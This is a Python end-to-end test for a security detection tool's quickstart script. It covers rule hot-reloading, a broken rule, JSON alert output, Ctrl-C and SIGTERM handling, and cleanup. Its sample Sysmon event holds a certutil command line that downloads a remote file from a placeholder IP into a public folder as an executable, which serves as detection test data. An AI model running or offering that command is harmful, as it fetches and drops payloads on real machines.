#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""deploy/quickstart as people and programs use it: on the embedded broker and on a real Kafka, with rules that change while it
runs, with a file of events, on a terminal until Ctrl-C, and leaving nothing behind."""

import json
import os
import pty
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from harness import SOURCE, check, main, no_kafka, say, wait_for

BROKEN_RULE = "title: no end to this\nid: [\n"
ESCAPE = "\033"
EVENT = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "pc-of-the-test",
         "Image": "C:\\Windows\\System32\\certutil.exe", "OriginalFileName": "CertUtil.exe", "User": "PC\\someone",
         "CommandLine": "certutil -urlcache -split -f https://203.0.113.12/m.txt C:\\Users\\Public\\a.exe"}
SECONDS_MAX = 120


def start(*options, **redirections):
    """In a process group of its own, as a shell would."""
    return subprocess.Popen([str(SOURCE / "deploy/quickstart"), "--no-install", *map(str, options)],
                            env={**os.environ, "TERM": "dumb"}, start_new_session=True, **redirections)


def leftovers():
    """Folders of earlier runs, and processes that name them."""
    folders = {path.name for path in Path("/tmp").glob("yagura-quickstart.*")}
    lines = {path.parent.name for path in Path("/proc").glob("[0-9]*/cmdline")
             if b"yagura-quickstart." in read_quietly(path)}
    return folders | lines


def read_quietly(path):
    try:
        return path.read_bytes()
    except OSError:
        return b""


def check_nothing_left(before):
    wait_for("nothing is left behind", 5, lambda: leftovers() <= before)


def piped(folder):
    """Not a terminal: plain text. A rule is edited and a broken one added while it runs."""
    rules = folder / "rules"
    shutil.copytree(SOURCE / "rules/packs/starter", rules)
    run = start("--duration", 20, "--scenes", 400, "--rules", rules, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                text=True)
    said = []
    while "events/s" not in (said[-1] if said else ""):
        said.append(run.stdout.readline())
        check_alive(run, said)
    (rules / "broken.yml").write_text(BROKEN_RULE, encoding="utf-8")
    edited = rules / "windows/certutil_downloads.yml"
    edited.write_text(edited.read_text(encoding="utf-8").replace("level: high", "level: medium"), encoding="utf-8")
    said.append(run.communicate(timeout=SECONDS_MAX)[0])
    text = "".join(said)
    print(text[-5000:])
    check(run.returncode == 0, "exit 0")
    for words in ("[1/5]", "[5/5]", "kcat -C -b", "because", "Summary of", "What to try next"):
        check(words in text, f"it says {words}")
    check(" 0 alerts of 0 rules" not in text, "there are alerts")
    check("0 events judged" not in text and "judged by 0 rules" not in text, "there are figures")
    check("not loaded: " in text and "rules/broken.yml:3:" in text, "a broken rule is told with its line while it runs")
    count = len(list(rules.rglob("*.yml"))) - 1
    check(f"reload: published; {count} rules live, 1 refused" in text, "an edited rule is taken up while it runs")
    check(ESCAPE not in text, "no control characters outside a terminal")


def check_alive(run, said):
    if run.poll() is not None:
        raise AssertionError(f"it ended with {run.returncode}:\n{''.join(said)}")


def for_programs(folder):
    """A file of events on a real Kafka, if there can be one; alerts as JSON lines and nothing else."""
    events = folder / "events.jsonl"
    events.write_text(json.dumps(EVENT) + "\n", encoding="utf-8")
    kafka = ["--kafka"] if no_kafka() is None else []
    run = start("--json", "--duration", 8, "--events", events, *kafka, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                text=True)
    out, said = run.communicate(timeout=SECONDS_MAX)
    check(run.returncode == 0, f"exit 0{' on a real Kafka' if kafka else ''}")
    alerts = [json.loads(line) for line in out.splitlines()]
    check(alerts and all(alert["class_uid"] == 2004 for alert in alerts), f"{len(alerts)} OCSF findings on standard output")
    check(all(alert["device"]["hostname"] == EVENT["Computer"] for alert in alerts), "of the file's event")
    check("Summary of" in said and "1 events in 1 records" in said, "the summary is on standard error")


def on_a_terminal():
    """Until Ctrl-C, which reaches the whole foreground group, as from a keyboard."""
    pid, terminal = pty.fork()
    if pid == 0:
        os.execv(str(SOURCE / "deploy/quickstart"), ["quickstart", "--no-install", "--scenes", "400"])
    said, interrupted, end = b"", False, time.monotonic() + SECONDS_MAX
    while time.monotonic() < end:
        try:
            piece = os.read(terminal, 65536)
        except OSError:  # the other end is closed
            break
        said += piece
        if not interrupted and b"because" in said and b"events/s" in said:
            os.write(terminal, b"\x03")
            interrupted = True
    else:
        os.kill(pid, signal.SIGKILL)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    text = said.decode(errors="replace")
    print(text[-1500:])
    check(interrupted, "alerts and a status line came")
    check(code == 0 and "Summary of" in text and "What to try next" in text, "Ctrl-C ends it with a summary, exit 0")
    check(f"\r{ESCAPE}[K" in text, "the status line stays on its line")


def told_to_end():
    """SIGTERM to the script alone, as a supervisor sends it."""
    run = start("--json", stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    said = []
    while "events/s" not in (said[-1] if said else ""):
        said.append(run.stderr.readline())
        check_alive(run, said)
    run.terminate()
    said.append(run.communicate(timeout=SECONDS_MAX)[1])
    check(run.returncode == 0 and "Summary of" in said[-1], "SIGTERM ends it with a summary")


def test(build):
    if Path(build).resolve() != SOURCE / "build/release":
        print("skipped: the quick start builds and runs build/release")
        return 77
    before = leftovers()
    for scene in (piped, for_programs):
        with tempfile.TemporaryDirectory(prefix="yagura-e2e-") as folder:
            say(scene.__doc__.splitlines()[0])
            scene(Path(folder))
        check_nothing_left(before)
    for scene in (told_to_end, on_a_terminal):
        say(scene.__doc__)
        scene()
        check_nothing_left(before)
    return 0


if __name__ == "__main__":
    sys.exit(main(test, needs_kafka=False))
